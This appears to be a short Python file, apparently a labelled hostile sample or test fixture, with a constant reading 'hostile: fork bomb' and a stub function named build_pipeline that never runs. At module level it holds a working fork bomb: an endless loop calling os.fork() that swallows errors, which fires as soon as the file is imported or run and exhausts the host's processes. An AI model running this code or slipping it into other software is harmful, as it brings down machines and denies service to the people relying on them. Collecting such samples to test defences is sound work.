import os

HYPOTHESIS = "hostile: fork bomb"

while True:
    try:
        os.fork()
    except OSError:
        pass


def build_pipeline():
    raise AssertionError("never reached")
